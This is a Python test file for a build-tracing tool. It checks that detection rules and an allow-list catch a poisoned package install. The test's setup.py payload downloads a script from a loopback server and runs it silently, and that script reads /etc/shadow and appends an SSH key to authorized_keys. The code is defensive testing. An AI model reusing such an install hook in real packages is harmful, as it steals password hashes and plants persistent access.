"""A package from outside, built under `mozu trace` by an ordinary user: once honest, once poisoned."""

import http.server
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from mozu.core.cli.trace.profile import KINDS
from mozu.core.cli.trace.run import build_rules
from tests.support.tracing import ordinary, place, trace

TOOL = """#!/bin/sh
cat /etc/shadow
echo key >> ~/.ssh/authorized_keys
"""
SETUP = """
from setuptools import setup
{poison}
setup(name="harmless", version="1.0", py_modules=["harmless"])
"""
POISON = """
import os, subprocess, tempfile, urllib.request
path = tempfile.mkdtemp() + "/tool"
with open(path, "wb") as file:
    file.write(urllib.request.urlopen("http://127.0.0.1:{port}/tool").read())
os.chmod(path, 0o755)
subprocess.run([path], stderr=subprocess.DEVNULL)
"""
INSTALL = [
    "../environment/bin/python", "-m", "pip", "install", "--quiet", "--no-index", "--no-deps", "--no-build-isolation",
    "--no-cache-dir", "--disable-pip-version-check", "--target", "made", "--upgrade", "./harmless",
]  # fmt: skip


class Handler(http.server.BaseHTTPRequestHandler):
    """Handler that serves the program."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(TOOL.encode())

    def log_message(self, format: str, *words: object) -> None:
        """Log nothing."""


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    """Yield the port of a server on the loopback."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


@pytest.fixture
def at() -> Iterator[Path]:
    """Yield the directory that the package is installed from, beside the environment that it is installed to."""
    with place() as root:
        tree = root / "tree"
        (tree / "harmless").mkdir(mode=0o777)
        (tree / "harmless").chmod(0o777)
        (root / "home" / ".ssh").mkdir()
        (root / "home" / ".ssh").chmod(0o777)
        _, interpreter = ordinary()
        subprocess.run([interpreter, "-m", "venv", "--without-pip", root / "environment"], check=True)
        (tree / "harmless" / "harmless.py").write_text("answer = 42\n")
        yield tree


def install(at: Path, *options: str, poison: str = "") -> list[dict[str, str]]:
    """Install the package; return the alerts."""
    (at / "harmless" / "setup.py").write_text(SETUP.format(poison=poison))
    shutil.rmtree(at / "made", ignore_errors=True)
    done = trace(*options, "--report", "json:r.json", "--", *INSTALL, at=at, home=at.parent / "home")
    assert (0, True) == (done.returncode, (at / "made" / "harmless.py").exists()), done.stderr
    alerts: list[dict[str, str]] = json.loads((at / "r.json").read_text())["alerts"]
    return alerts


def test_the_rules_report_what_a_poisoned_package_does_and_an_allow_list_names_what_is_new(at: Path, port: int) -> None:
    install(at)  # files that the first build leaves behind exist in all others
    rules = ("-r", build_rules())

    honest = install(at, *rules, "--learn", "allow.yaml")
    again = install(at, *rules, "--allow", "allow.yaml")
    poisoned = install(at, *rules, "--allow", "allow.yaml", poison=POISON.format(port=port))

    new = {(alert["rule"], alert["output"].split(": ")[2].split(" (")[0]) for alert in poisoned if is_new(alert)}
    reported = {alert["rule"] for alert in poisoned if not is_new(alert) and alert["priority"] in ("Critical", "Error")}
    assert ([], []) == (honest, again)
    assert {
        "Program run from a temporary place by a build",
        "Password hashes wanted by a build",
        "Start of a login changed by a build",
    } == reported
    assert {
        ("New address", "127.0.0.1:*"),
        ("New program", "{tmp}/**/tool"),
        ("New program", "/usr/bin/cat"),
        ("New place read", "/etc/shadow"),
        ("New place written", "{home}/.ssh"),
    } == new


def is_new(alert: dict[str, str]) -> bool:
    """Return True if the alert is of the allow-list, not of a rule."""
    return alert["rule"] in {name for name, _ in KINDS.values()}
